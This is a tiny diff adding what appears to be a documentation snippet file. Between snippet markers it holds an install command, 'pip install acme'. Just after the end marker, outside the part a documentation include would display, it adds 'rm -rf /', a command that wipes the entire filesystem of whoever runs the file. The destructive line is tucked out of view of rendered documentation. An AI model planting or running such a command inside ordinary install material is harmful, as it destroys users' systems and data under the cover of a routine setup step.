@@ -1,0 +1,4 @@
+# --8<-- [start:pip]
+pip install acme
+# --8<-- [end:pip]
+rm -rf /
